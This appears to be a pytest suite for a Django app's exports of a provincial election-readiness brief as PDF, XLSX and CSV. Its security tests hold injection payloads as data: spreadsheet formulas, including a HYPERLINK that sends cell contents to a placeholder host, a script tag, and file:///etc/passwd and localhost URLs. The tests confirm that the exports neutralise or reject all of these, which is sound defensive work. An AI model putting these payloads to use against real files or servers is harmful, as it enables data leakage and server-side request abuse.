"""The brief's files: a real PDF of the print view, an XLSX with typed cells and the right totals, a CSV
Excel opens, formulas that never run, and downloads after forwarding identical to the files sent."""

import csv
import datetime as dt
import io
from itertools import cycle

import openpyxl
import pytest
from django.conf import settings
from django.test import override_settings
from django.urls import reverse
from pypdf import PdfReader

from accounts.models import Profile
from regions.models import Region
from reports.brief.exports import COLUMNS, StaticFilesFetcher, csv_bytes, safe_cell, xlsx
from reports.brief.letter import indonesian
from reports.models import FollowUp, ForwardedBrief, RakorSession, ReadinessReport
from reports.registry import FIELDS_BY_NAME, Kind, Place, fields_of, of_kind, sections_of
from reports.rollup.summary import summary
from tests import letters

pytestmark = pytest.mark.django_db

# The demo's rakor of 18 November asks for the readiness sections: the files show their columns only.
BEFORE_VOTING = {section.key for section in sections_of(["kampanye"])}
HEADERS = [column.header for column in COLUMNS if not column.section or column.section in BEFORE_VOTING]
FORMULAS = (
    '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
    "+1",
    "@SUM(A1:A2)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
)
# A formula in every text of the report the files show.
INJECTIONS = {
    field.name: formula
    for field, formula in zip(
        (field for field in of_kind(Kind.TEXT) if field.shown_in(Place.FILES)), cycle(FORMULAS), strict=False
    )
}


def download(client, name: str, session: RakorSession) -> bytes:
    response = client.get(reverse(f"reports:{name}", args=[session.pk]))
    assert response.status_code == 200
    return response.content


@pytest.fixture
def desk(client, secretariat):
    client.force_login(secretariat)
    return client


def workbook(body: bytes):
    return openpyxl.load_workbook(io.BytesIO(body))


def rows_by_region(sheet) -> dict[str, dict]:
    header = [cell.value for cell in sheet[1]]
    return {row[1].value: dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)}


def test_the_pdf_is_a_real_pdf_of_the_letter_and_its_attachment(desk, demo):
    response = desk.get(reverse("reports:brief_pdf", args=[demo.pk]))
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == 'attachment; filename="laporan-desk-pilkada-2024-11-18.pdf"'
    reader = PdfReader(io.BytesIO(response.content))
    assert len(reader.pages) >= 2
    text = " ".join(" ".join(page.extract_text().split()) for page in reader.pages)
    for region in Region.objects.all():
        assert region.name in text
    assert "PEMERINTAH PROVINSI KALIMANTAN TIMUR" in text
    assert "1.214 orang" in text
    assert "Sri Wahyuni" in text
    assert "DRAF" in text


def sent_again(session: RakorSession, name: str) -> None:
    """The region sends this rakor what it sent to the previous one, shortages included."""
    report = ReadinessReport.objects.get(session__date=dt.date(2024, 11, 11), region__name=name)
    shortages = list(report.shortages.all())
    report.pk, report.session = None, session
    report.save()
    for line in shortages:
        line.pk, line.report = None, report
        line.save()


@pytest.mark.parametrize("silent", [["Kutai Barat", "Kutai Timur", "Samarinda"], []])
def test_the_letter_of_a_kaltim_week_fits_on_two_a4_pages(desk, demo, silent):
    for name in {"Kutai Barat", "Kutai Timur", "Samarinda"} - set(silent):
        sent_again(demo, name)
    reader = PdfReader(io.BytesIO(download(desk, "brief_pdf", demo)))
    pages = [" ".join(page.extract_text().split()) for page in reader.pages]
    signed = next(number for number, text in enumerate(pages, start=1) if "NIP 19670810 199403 2 005" in text)
    assert signed <= 2, pages[signed - 1][-600:]
    attachment = next(
        number for number, text in enumerate(pages, start=1) if text.startswith("LAMPIRAN SURAT SEKRETARIS")
    )
    assert "Tembusan: Gubernur Kalimantan Timur (sebagai laporan)" in " ".join(pages[signed - 1 : attachment])
    assert attachment - signed <= 1  # the Tembusan may run onto one more page, never more


def test_the_pdf_shows_user_text_as_text(desk, demo):
    report = ReadinessReport.objects.get(session=demo, region__name="Paser")
    report.notes = "<b>tebal</b> & <script>x()</script>"
    report.save()
    text = " ".join(
        page.extract_text() for page in PdfReader(io.BytesIO(download(desk, "brief_pdf", demo))).pages
    )
    assert "<b>tebal</b> & <script>x()</script>" in " ".join(text.split())


def test_the_pdf_reads_only_the_projects_static_files():
    fetcher = StaticFilesFetcher()
    assert b"@page" in fetcher.fetch("https://brief.invalid/static/css/print.css").read()
    for url in ("https://contoh.invalid/static/css/print.css", "http://127.0.0.1/", "file:///etc/passwd"):
        with pytest.raises(ValueError):
            fetcher.fetch(url)


def test_the_xlsx_has_a_row_per_region_typed_cells_and_the_right_totals(desk, demo):
    book = workbook(download(desk, "brief_xlsx", demo))
    sheet = book.worksheets[0]
    assert sheet.title == "Rakor 18 Nov 2024"
    assert [cell.value for cell in sheet[1]] == HEADERS
    assert sheet.freeze_panes == "C2"
    assert sheet.column_dimensions["B"].width == 26
    assert sheet.max_row == 12  # header, ten regions, totals

    rows = rows_by_region(sheet)
    bontang = rows["Kota Bontang"]
    assert bontang["Personel pengamanan"].value == 1214
    assert bontang["Personel pengamanan"].data_type == "n"
    assert bontang["Personel pengamanan"].number_format == "#,##0"
    mahulu = rows["Kabupaten Mahakam Ulu"]
    assert mahulu["Distribusi mulai"].is_date
    assert mahulu["Distribusi mulai"].value == dt.datetime(2024, 11, 23)
    assert mahulu["Distribusi selesai"].value == dt.datetime(2024, 11, 25)
    assert mahulu["Item logistik terpenuhi"].value == 14
    assert mahulu["Dikirim pertama (WITA)"].is_date
    assert mahulu["Terlambat"].value == "Ya"
    samarinda = rows["Kota Samarinda"]
    assert samarinda["Status laporan"].value == "Tidak melapor"
    assert samarinda["Personel pengamanan"].value == 1760  # its last report's, and it says so
    assert samarinda["Data dari rakor"].value == dt.datetime(2024, 11, 11)
    assert samarinda["Kekurangan logistik"].value == "Surat suara 1.200 lembar"
    assert bontang["Data dari rakor"].value == dt.datetime(2024, 11, 18)
    assert bontang["Sama dengan laporan sebelumnya"].value == "Tidak"
    assert mahulu["Status laporan"].value == "Belum diverifikasi, terlambat"
    assert rows["Kabupaten Paser"]["Status laporan"].value == "Belum diverifikasi"

    totals = rows["Jumlah provinsi"]
    result = summary(demo)
    region_rows = [row for name, row in rows.items() if name != "Jumlah provinsi"]
    for header, expected in (
        ("Personel pengamanan", 6_394 + 3_140),
        ("Pelanggaran netralitas ASN", 0),  # Kutai Barat's case is of 11 November, not this week's
        ("Kecamatan siap", result.totals.figures["kecamatan_ready"].value),
        ("Jumlah kecamatan", result.totals.figures["kecamatan_ready"].out_of),
        ("Pemilih pemula", 119_600 + 70_000),
        ("DPT", result.totals.registered_voters),
        ("TPS", result.totals.polling_stations),
    ):
        assert totals[header].value == expected
        assert sum(row[header].value or 0 for row in region_rows) == expected
    assert totals["Status laporan"].value == "7 dari 10 melapor"
    assert totals["Data dari rakor"].value == "3 dari data lama"


def test_the_xlsx_lists_follow_ups_and_agenda_with_dates_as_dates(desk, demo):
    book = workbook(download(desk, "brief_xlsx", demo))
    follow_ups, agenda = book["Peringatan dan tindak lanjut"], book["Agenda"]
    titles = {row[2].value: row for row in follow_ups.iter_rows(min_row=2)}
    patrol = titles["Patroli bersama di Sangatta Utara untuk mencegah konflik horizontal"]
    assert patrol[3].value == "Polri/TNI"
    assert patrol[4].is_date and patrol[4].value == dt.datetime(2024, 11, 26)
    closed = titles["Tindak lanjuti dugaan ASN tidak netral di Kutai Barat"]
    assert closed[0].value == "Tindak lanjut selesai" and closed[5].is_date
    debate = next(row for row in agenda.iter_rows(min_row=2) if row[1].value == "Kota Balikpapan")
    assert debate[0].value == dt.datetime(2024, 11, 22) and debate[0].is_date
    assert agenda.freeze_panes == "A2"


def test_the_csv_has_the_same_columns_with_a_bom_for_excel(desk, demo):
    response = desk.get(reverse("reports:brief_csv", args=[demo.pk]))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == HEADERS
    assert len(rows) == 12
    by_region = {row[1]: dict(zip(HEADERS, row, strict=True)) for row in rows[1:]}
    assert by_region["Kota Bontang"]["Personel pengamanan"] == "1214"
    assert by_region["Kabupaten Mahakam Ulu"]["Distribusi mulai"] == "2024-11-23"
    assert by_region["Jumlah provinsi"]["Personel pengamanan"] == "9534"
    assert by_region["Kota Samarinda"]["Data dari rakor"] == "2024-11-11"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+62 812", "'+62 812"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\r=1", "'\r=1"),
        ("\x01=1", "'=1"),  # a control character XLSX cannot hold is dropped first
        ("Aman; 1.214 personel", "Aman; 1.214 personel"),
        (1214, 1214),
        (None, None),
        (dt.date(2024, 11, 23), dt.date(2024, 11, 23)),
    ],
)
def test_safe_cell_neutralises_formulas_and_keeps_numbers_and_dates(value, written):
    assert safe_cell(value) == written


@pytest.mark.parametrize("day", [dt.date(2024, 11, 18), dt.date(2024, 12, 2)])
def test_formula_injection_is_neutralised_in_xlsx_and_csv(demo, day):
    week = RakorSession.objects.get(date=day)
    asked = fields_of(sections_of(week.stages))
    injections = {name: value for name, value in INJECTIONS.items() if name in asked}
    report = ReadinessReport.objects.get(session=week, region__name="Paser")
    for name, value in injections.items():
        setattr(report, name, value)
    report.save()
    FollowUp.objects.create(session=week, title="=1+1", agency="kpu", due_date=dt.date(2024, 11, 25))
    with indonesian():
        result = summary(week)
        book, table = workbook(xlsx(result)), csv_bytes(result).decode("utf-8-sig")

    assert not [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    paser = rows_by_region(book.worksheets[0])["Kabupaten Paser"]
    csv_rows = list(csv.reader(io.StringIO(table), delimiter=";"))
    csv_paser = next(row for row in csv_rows if row[1] == "Kabupaten Paser")
    for name, value in injections.items():
        header = FIELDS_BY_NAME[name].label
        # openpyxl keeps a lone CR when lxml writes the sheet; the standard library's writer makes it LF.
        assert paser[header].value.replace("\r", "\n") == f"'{value}".replace("\r", "\n")
        assert paser[header].data_type == "s"
        assert csv_paser[csv_rows[0].index(header)] == f"'{value}"
    follow_ups = book["Peringatan dan tindak lanjut"]
    assert "'=1+1" in [row[2].value for row in follow_ups.iter_rows(min_row=2)]


def test_downloads_after_forwarding_are_the_files_kept_at_forwarding_byte_for_byte(desk, demo):
    letters.sign(demo)
    desk.post(reverse("reports:brief_forward", args=[demo.pk]), {"confirm": "on"})
    kept = ForwardedBrief.objects.get(session=demo)

    # What the files are made from changes afterwards: they must not.
    Region.objects.filter(name="Bontang").update(registered_voters=1)
    Profile.objects.filter(user__username="sekda").update(name="Orang Lain")
    with override_settings(DESK={**settings.DESK, "PROVINCE": "Provinsi Lain"}):
        for name, stored in (("brief_pdf", kept.pdf), ("brief_xlsx", kept.xlsx), ("brief_csv", kept.csv)):
            assert download(desk, name, demo) == bytes(stored)
            assert download(desk, name, demo) == bytes(stored)
